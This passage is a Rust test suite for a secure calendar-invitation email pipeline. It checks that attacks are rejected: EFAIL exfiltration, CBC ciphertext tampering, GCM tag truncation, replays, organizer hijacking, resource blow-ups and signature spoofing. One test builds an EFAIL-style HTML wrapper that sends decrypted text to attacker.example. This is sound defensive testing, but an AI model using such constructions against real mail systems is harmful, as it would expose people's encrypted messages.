                b"Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/",
                &encrypted,
                b"Content-Type: text/html\r\n\r\n\">",
            ],
        ),
    );
    let verdict = evaluate(&raw);
    assert_rejected(&verdict, Reason::DecryptionFailed);
    assert!(
        verdict
            .layers()
            .iter()
            .all(|layer| layer.status == LayerStatus::NotDecrypted)
    );
    let json = serde_json::to_string(&verdict).unwrap();
    assert!(
        !json.contains(SECRET) && !json.contains("VCALENDAR"),
        "{json}"
    );

    // Control: the same ciphertext as the whole message is decrypted and accepted.
    let control = evaluate(&message(ORGANIZER, &encrypted));
    assert_accepted(&control);
}

/// The CBC gadget: CBC (EnvelopedData) does not authenticate, so flipped ciphertext bits
/// flip plaintext bits. The layer is flagged (`unauthenticated-encryption`), and every
/// modification is caught by the inner signature or the padding check; nothing is accepted.
#[test]
fn efail_cbc_gadget_is_flagged_and_never_accepted() {
    let encrypted = encrypted_entity("-aes-256-cbc", &secret_invitation(), "rsa2048/attendee");
    let control = evaluate(&message(ORGANIZER, &encrypted));
    assert_accepted(&control);
    assert!(control.has_warning(Warning::UnauthenticatedEncryption));

    // Re-encode with modified ciphertext bytes: take the DER out of the base64 body.
    let der = openssl(
        &[
            "cms",
            "-encrypt",
            "-binary",
            "-aes-256-cbc",
            "-outform",
            "DER",
            &cert_path("rsa2048/attendee"),
        ],
        &secret_invitation(),
    );
    let header =
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
Content-Transfer-Encoding: base64\r\n\r\n";
    for back in [1usize, 17, 20, 33, 100, 300] {
        let mut modified = der.clone();
        let index = modified.len() - back;
        modified[index] ^= 0x20;
        let mut raw = header.to_vec();
        raw.extend_from_slice(base64(&modified).as_bytes());
        let verdict = evaluate(&message(ORGANIZER, &raw));
        assert!(
            !verdict.is_accept(),
            "ciphertext byte -{back} flipped and accepted"
        );
    }

    // An unsigned calendar under CBC is flagged and rejected as unsigned.
    let unsigned = encrypted_entity(
        "-aes-256-cbc",
        &entity(&request("cbc@example.com", 0), "REQUEST"),
        "rsa2048/attendee",
    );
    let verdict = evaluate(&message(ORGANIZER, &unsigned));
    assert_rejected(&verdict, Reason::Unsigned);
    assert!(verdict.has_warning(Warning::UnauthenticatedEncryption));
}

/// AES-GCM (AuthEnvelopedData, RFC 5083/5084): a flipped or truncated tag is a decryption
/// failure, never content.
#[test]
fn gcm_tag_flipped_or_truncated_is_decryption_failed() {
    let envelope = openssl(
        &[
            "cms",
            "-encrypt",
            "-binary",
            "-aes-256-gcm",
            "-outform",
            "DER",
            &cert_path("rsa2048/attendee"),
        ],
        &secret_invitation(),
    );
    let header =
        b"Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=smime.p7m\r\n\
Content-Transfer-Encoding: base64\r\n\r\n";
    let wrap = |cms: &[u8]| {
        let mut raw = header.to_vec();
        raw.extend_from_slice(base64(cms).as_bytes());
        message(ORGANIZER, &raw)
    };
    assert_accepted(&evaluate(&wrap(&envelope)));

    // ContentInfo { contentType, [0] { AuthEnvelopedData { ..., mac OCTET STRING } } }
    let (_, _, content_info) = tlv(&envelope);
    let outer = children(content_info);
    let (_, _, explicit) = tlv(outer[1]);
    let (_, _, auth_enveloped) = tlv(explicit);
    let fields = children(auth_enveloped);
    let (mac_tag, _, mac) = tlv(fields[fields.len() - 1]);
    assert_eq!(
        (mac_tag, mac.len()),
        (0x04, 16),
        "the last field is the 16-byte tag"
    );
    let rebuild = |mac: Vec<u8>| {
        let mut parts: Vec<Vec<u8>> = fields[..fields.len() - 1]
            .iter()
            .map(|f| f.to_vec())
            .collect();
        parts.push(der(0x04, &mac));
        seq(&[outer[0].to_vec(), der(0xa0, &seq(&parts))])
    };

    let mut flipped = mac.to_vec();
    flipped[15] ^= 0x01;
    let verdict = evaluate(&wrap(&rebuild(flipped)));
    assert_rejected(&verdict, Reason::DecryptionFailed);
    assert!(!serde_json::to_string(&verdict).unwrap().contains(SECRET));

    for keep in [12, 4, 1, 0] {
        let verdict = evaluate(&wrap(&rebuild(mac[..keep].to_vec())));
        eprintln!(
            "PROBE keep={keep} accept={} {:?}",
            verdict.is_accept(),
            verdict.reasons()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Replays and hijacking through the event state

/// An old signed REQUEST, replayed after a newer one was processed.
#[test]
fn replayed_old_signed_request_is_stale_sequence() {
    let pipeline = pipeline();
    let store = SqliteStore::open_in_memory().unwrap();
    let old = signed_request("replay@example.com", 0);
    let new = signed_request("replay@example.com", 1);
    assert_accepted(&evaluate_recorded(&pipeline, &store, &old));
    assert_accepted(&evaluate_recorded(&pipeline, &store, &new));
    assert_rejected(
        &evaluate_recorded(&pipeline, &store, &old),
        Reason::StaleSequence,
    );
    // The very same message again is a replay too.
    assert_rejected(
        &evaluate_recorded(&pipeline, &store, &new),
        Reason::StaleSequence,
    );
}

/// Mallory signs a CANCEL naming herself ORGANIZER of the organizer's UID: internally
/// consistent, so only the pinned organizer of the UID stops it.
#[test]
fn signed_cancel_from_mallory_for_the_organizers_uid_is_organizer_mismatch() {
    let pipeline = pipeline();
    let store = SqliteStore::open_in_memory().unwrap();
    assert_accepted(&evaluate_recorded(
        &pipeline,
        &store,
        &signed_request("hijack@example.com", 0),
    ));
    let cancel = calendar("CANCEL", "hijack@example.com", 1, MALLORY, "");
    let raw = message(
        MALLORY,
        &signed("rsa2048/stranger", &entity(&cancel, "CANCEL")),
    );
    // Without state it is a valid CANCEL of mallory's own event...
    assert_accepted(&evaluate(&raw));
    // ...with the state, the UID belongs to the organizer.
    assert_rejected(
        &evaluate_recorded(&pipeline, &store, &raw),
        Reason::OrganizerMismatch,
    );
}

// ---------------------------------------------------------------------------------------------
// Nesting and size blow-ups: every one ends at a named limit, never in exhaustion.

#[test]
fn deeply_nested_multiparts_hit_the_depth_limit() {
    let mut body = b"Content-Type: text/plain\r\n\r\nbottom\r\n".to_vec();
    for level in 0..64 {
        body = mixed(&format!("n{level}"), &[&body]);
    }
    assert_rejected(&evaluate(&message(ORGANIZER, &body)), Reason::LimitExceeded);
}

#[test]
fn deeply_nested_components_hit_the_nesting_limit() {
    let mut nested = String::new();
    for _ in 0..12 {
        nested.push_str("BEGIN:X-NEST\r\n");
    }
    for _ in 0..12 {
        nested.push_str("END:X-NEST\r\n");
    }
    let ics = calendar("REQUEST", "nest@example.com", 0, ORGANIZER, &nested);
    let raw = message(
        ORGANIZER,
        &signed("rsa2048/organizer", &entity(&ics, "REQUEST")),
    );
    assert_rejected(&evaluate(&raw), Reason::LimitExceeded);
}

#[test]
fn many_mime_parts_hit_the_parts_limit() {
    let part: &[u8] = b"Content-Type: text/plain\r\n\r\nx";
    let parts = vec![part; 400];
    assert_rejected(
        &evaluate(&message(ORGANIZER, &mixed("many", &parts))),
        Reason::LimitExceeded,
    );
}

/// Tiny content lines by the tens of thousands (signed, so the calendar is parsed).
#[test]
fn many_content_lines_hit_the_properties_limit() {
    let filler = "X-A:b\r\n".repeat(60_000);
    let ics = calendar("REQUEST", "lines@example.com", 0, ORGANIZER, &filler);
    let raw = message(
        ORGANIZER,
        &signed("rsa2048/organizer", &entity(&ics, "REQUEST")),
    );
    assert_rejected(&evaluate(&raw), Reason::LimitExceeded);
}

/// One content line unfolded from 70,000 one-byte folds.
#[test]
fn folded_line_blow_up_hits_the_line_length_limit() {
    let folded = format!("X-LONG:a{}\r\n", "\r\n b".repeat(70_000));
    let ics = calendar("REQUEST", "fold@example.com", 0, ORGANIZER, &folded);
    let raw = message(
        ORGANIZER,
        &signed("rsa2048/organizer", &entity(&ics, "REQUEST")),
    );
    assert_rejected(&evaluate(&raw), Reason::LimitExceeded);
}

/// Nested opaque signatures, each wrapping the last (the CMS analogue of nested entities):
/// the depth limit carries across layers.
#[test]
fn nested_opaque_signatures_hit_the_depth_limit() {
    let options = SignOptions::default();
    let organizer = identity("rsa2048/organizer");
    let mut entity = entity(&request("opaque@example.com", 0), "REQUEST");
    for _ in 0..20 {
        entity = sign_opaque(&entity, &organizer, &options).unwrap();
    }
    assert_rejected(
        &evaluate(&message(ORGANIZER, &entity)),
        Reason::LimitExceeded,
    );
}

#[test]
fn oversized_message_is_refused_before_parsing() {
    let limit = pipeline().settings().limits.message_bytes();
    let mut raw = signed_request("big@example.com", 0);
    raw.resize(limit + 1, b'x');
    assert_rejected(&evaluate(&raw), Reason::LimitExceeded);
}

// ---------------------------------------------------------------------------------------------
// "Johnny, you are fired" (USENIX Security 2019) through the whole pipeline

fn corpora() -> PathBuf {
    let dir = std::env::var_os("IMIPSEC_CORPORA")
        .expect("IMIPSEC_CORPORA must point at ../shared/corpora for this test");
    let dir = PathBuf::from(dir);
    if dir.is_absolute() {
        dir
    } else {
        // CI gives it relative to the workspace root; cargo runs tests in the crate directory.
        PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("../..")
            .join(dir)
    }
}

fn eml_files(dir: &std::path::Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            eml_files(&path, out);
        } else if path.extension().is_some_and(|ext| ext == "eml") {
            out.push(path);
        }
    }
}

/// The S/MIME suite (crates/smime/tests/corpora.rs) shows no attack yields a valid signature
/// over attacker content; this one shows the pipeline accepts none of the messages with
/// manager@bigcorporation.de as the acting identity, while it does verify the manager's
/// signature on the controls (so the result is not for want of verifying anything).
#[test]
#[ignore = "needs IMIPSEC_CORPORA=../shared/corpora"]
fn johnny_you_are_fired_is_never_accepted_as_the_manager() {
    const MANAGER: &str = "manager@bigcorporation.de";
    let root = corpora().join("johnny-you-are-fired");
    let anchors = [
        std::fs::read("/etc/ssl/certs/GlobalSign_Root_CA_-_R3.pem").unwrap(),
        std::fs::read(root.join("assets/certificates/intermediate_ca.crt")).unwrap(),
    ];
    let mut certificates = Vec::new();
    for pem in &anchors {
        certificates.extend(imipsec_pipeline::smime::keys::certificates_from_pem(pem).unwrap());
    }
    let pipeline = Pipeline::new(Settings::new(
        TrustStore::new(certificates, Vec::new()).unwrap(),
    ));
    let mut files = Vec::new();
    eml_files(&root, &mut files);
    files.sort();
    assert!(
        files.len() >= 30,
        "only {} .eml files under {root:?}",
        files.len()
    );
    let mut manager_verified = 0;
    for file in &files {
        let raw = std::fs::read(file).unwrap();
        let verdict = pipeline
            .evaluate(
                &raw,
                &Evaluation {
                    at: datetime!(2019-05-01 00:00:00 UTC),
                    recipient: None,
                    record: false,
                },
                None,
            )
            .unwrap();
        let name = file.strip_prefix(&root).unwrap().display().to_string();
        let as_manager = verdict.itip().iter().any(|report| {
            report
                .actor
                .as_deref()
                .is_some_and(|actor| actor.to_ascii_lowercase().contains(MANAGER))
        });
        assert!(
            !(verdict.is_accept() && as_manager),
            "{name}: accepted with {MANAGER} as the acting identity"
        );
        // None of these mails carries iMIP data, so nothing is accepted at all.
        assert!(!verdict.is_accept(), "{name}: accepted");
        let verified_by_manager = verdict.layers().iter().any(|layer| {
            layer.status == LayerStatus::Verified
                && layer.signers.iter().any(|signer| {
                    signer
                        .emails
                        .iter()
                        .any(|e| e.eq_ignore_ascii_case(MANAGER))
                })
        });
        if verified_by_manager {
            manager_verified += 1;
        }
        println!(
            "{name}: {} {:?}{}",
            if verdict.is_accept() {
                "accept"
            } else {
                "reject"
            },
            verdict.reasons().iter().map(|r| r.code).collect::<Vec<_>>(),
            if verified_by_manager {
                " (manager's signature verified)"
            } else {
                ""
            }
        );
    }
    assert!(
        manager_verified >= 2,
        "the controls' signatures by {MANAGER} were not verified"
    );
}

// ---------------------------------------------------------------------------------------------
// Attack classes kept in files of their own (each `use super::*;` for the fixtures above).

#[path = "attacks/amplification.rs"]
mod amplification;
#[path = "attacks/clients.rs"]
mod clients;
#[path = "attacks/cms.rs"]
mod cms;
#[path = "attacks/icalendar.rs"]
mod icalendar;
#[path = "attacks/mime.rs"]
mod mime;
#[path = "attacks/profile.rs"]
mod profile;
#[path = "attacks/state.rs"]
mod state;
